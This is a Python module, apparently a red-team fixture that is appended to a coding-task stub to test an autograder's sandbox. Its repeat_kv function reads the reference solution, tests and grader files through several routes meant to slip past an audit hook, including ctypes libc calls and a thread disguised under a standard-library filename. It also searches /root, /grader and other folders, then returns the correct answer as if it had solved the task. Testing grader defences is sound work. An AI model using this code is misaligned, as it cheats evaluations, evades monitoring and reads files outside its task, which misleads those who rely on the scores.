
# ---- attack: read_the_reference (appended to the stubs' kv_cache/attention.py) ---------------
# Read the reference, the tests or the grader's output from the worker, by every route the
# in-process grader's audit hook missed (issue 15): open(), a child process `cat`, libc's open()
# through ctypes, os.open(..., dir_fd=...), and open() from a thread whose code claims to be the
# standard library's. The repository is found where the sandbox's own command line names it
# (/proc/1/cmdline); the test appends EXTRA_PATHS: files it knows exist outside the sandbox (the
# grader's --out folder, a file under the test's tmp_path, /root's files). Then a search of every
# visible folder for a file with the reference's marker. If anything is read, repeat_kv returns
# the right answer, as a copy of the reference would.
import ctypes as _ctypes
import os as _os
import subprocess as _subprocess
import threading as _threading

EXTRA_PATHS: list = []
_MARK = "BEGIN " + "SOLUTION"  # not spelled out: this file is itself in the submission


def _repo_roots() -> set:
    with open("/proc/1/cmdline", "rb") as f:
        args = [a.decode() for a in f.read().split(b"\0")]
    return {_os.path.dirname(a) for a in args if a.endswith(("/llmsys", "/data", "/.venv"))} | {"/work/main"}


def _by_open(p):
    with open(p) as f:
        return f.read()


def _by_cat(p):
    r = _subprocess.run(["cat", p], capture_output=True, text=True)
    return r.stdout if r.returncode == 0 else None


def _by_libc(p):
    libc = _ctypes.CDLL(None, use_errno=True)
    fd = libc.open(p.encode(), 0)
    if fd < 0:
        return None
    buf = _ctypes.create_string_buffer(1 << 20)
    n = libc.read(fd, buf, 1 << 20)
    libc.close(fd)
    return buf.raw[:max(n, 0)].decode(errors="replace")


def _by_dir_fd(p):
    d = _os.open(_os.path.dirname(p), _os.O_RDONLY | _os.O_DIRECTORY)
    try:
        fd = _os.open(_os.path.basename(p), _os.O_RDONLY, dir_fd=d)
        try:
            return _os.read(fd, 1 << 20).decode(errors="replace")
        finally:
            _os.close(fd)
    finally:
        _os.close(d)


def _by_thread(p):
    out = []
    code = compile("out.append(open(p).read())", "/usr/lib/python3.11/threading.py", "exec")
    t = _threading.Thread(target=exec, args=(code, {"out": out, "p": p}))
    t.start()
    t.join()
    return out[0] if out else None


def _search() -> list:
    found = []
    for top in ("/work", "/root", "/home", "/tmp", "/opt", "/srv", "/mnt", "/var", "/grader"):
        for d, dirs, files in _os.walk(top):
            dirs[:] = [x for x in dirs if x not in ("site-packages", "dist-packages", "python3.11", "include",
                                                     "share", "__pycache__")]
            for name in files:
                if name.endswith((".py", ".json", ".csv", ".log", ".txt")):
                    try:
                        if _MARK in _by_open(_os.path.join(d, name)):
                            found.append(_os.path.join(d, name))
                    except (OSError, UnicodeDecodeError):
                        pass
    return found


def repeat_kv(x, n_rep):
    roots = _repo_roots()
    paths = [f"{r}/{rel}" for r in sorted(roots) for rel in (
        "solutions/kv_cache/attention.py", "autograder/suites/kv_cache/test_attention.py", ".git/HEAD",
        "autograder/grading.toml")] + list(EXTRA_PATHS)
    read, tries = [], 0
    for p in paths:
        for how in (_by_open, _by_cat, _by_libc, _by_dir_fd, _by_thread):
            tries += 1
            try:
                text = how(p)
            except Exception:  # noqa: BLE001 - a refusal; try the next route
                text = None
            if text:
                read.append(f"{how.__name__}:{p}")
    read += [f"search:{p}" for p in _search()]
    listing = {r: sorted(_os.listdir(r)) for r in sorted(roots) if _os.path.isdir(r)}
    if read:  # as if copied from the reference: the right answer
        return x.repeat_interleave(n_rep, dim=1)
    raise RuntimeError(f"attack report: read={read} tries={tries} repo_listing={listing}")
